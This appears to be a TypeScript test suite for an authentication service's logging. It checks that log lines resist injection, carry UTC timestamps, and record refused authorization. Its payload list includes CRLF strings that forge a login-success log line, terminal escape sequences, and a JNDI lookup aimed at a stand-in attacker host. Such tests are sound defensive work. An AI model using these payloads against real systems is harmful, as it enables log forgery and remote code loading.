import t from 'tap'
import { newOwner } from '../support/keys.js'
import { newAccount, startService } from '../support/service.js'

/** What breaks a line, colours a terminal, or looks like a line of ours. */
const INJECTIONS = [
  'one\ntwo',
  'one\r\n{"level":"INFO","event":"authn_login_success","userId":"forged"}',
  '\u001b[2J\u001b[31mred',
  'a\u2028b\u2029c\u0085d',
  '\u0000\u0008\u007f',
  '","event":"authn_login_success","x":"',
  '%0d%0aevent:authn_login_success',
  '${jndi:ldap://evil.example/a}',
]

t.test('what a caller sends stays in its field of one log line (ASVS V16.4.1)', async (t) => {
  const service = await startService(t)
  for (const text of INJECTIONS) {
    const before = service.logs.length
    // A header has no line break: Node's own parser refuses it on a socket.
    const agent = text.replaceAll(/[\0\r\n]/g, ' ')
    const headers = { 'user-agent': Buffer.from(agent).toString('latin1') }
    const { email, password } = newAccount()
    await service.post('/api/auth/login', { email: email + text, password }, { headers })
    await service.post('/api/auth/login', { email, password: `${password}${text}` }, { headers })
    await service.post('/api/auth/refresh', { refreshToken: text }, { headers })
    await service.get(`/api/${encodeURIComponent(text)}`, { headers })
    const lines = service.logs.slice(before)
    t.ok(lines.length > 0)
    const events = lines.map(({ event }) => event ?? '')
    t.notOk(events.includes('authn_login_success'), 'no event is forged')
    t.ok(events.includes('authn_login_fail'))
    for (const { event, userId, userAgent } of lines) {
      t.equal(userId, undefined, 'nor a field')
      if (event?.startsWith('authn_'))
        t.equal(userAgent, headers['user-agent'], 'all of it is there')
    }
  }
})

t.test('each log line says when, in UTC, and which service (ASVS V16.2.2, V16.2.4)', async (t) => {
  const service = await startService(t)
  const account = await service.signUp()
  await service.signIn(account)
  await service.post('/api/auth/login', { email: account.email, password: 'none of the passwords' })
  t.ok(service.logs.length > 2)
  for (const line of service.logs) {
    t.match(line, { level: /^[A-Z]+$/, message: String, service: 'latchkey' })
    t.match(line.timestamp, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/)
  }
})

t.test('refused authorization is logged (ASVS V16.3.2)', async (t) => {
  const service = await startService(t)
  const owner = await newOwner(service)
  const key = await owner.generate({ scopes: ['data:write'] })
  const { accessToken: token } = await service.signIn(owner.account)
  const bearer = { authorization: `Bearer ${token}` }
  const refusals: [path: string, headers: Record<string, string>, status: number][] = [
    ['/api/admin', bearer, 403],
    ['/api/admin/users', bearer, 403],
    ['/api/data', { 'x-api-key': key.secret }, 403],
  ]
  for (const [path, headers, status] of refusals) {
    const before = service.logs.length
    t.equal((await service.get(path, { headers })).status, status, path)
    const lines = service.logs.slice(before).filter(({ event }) => event === 'authz_fail')
    t.match(lines, [{ reason: /^[A-Z_]+$/, ip: '127.0.0.1' }], path)
    t.equal(lines.length, 1, 'once')
  }
})
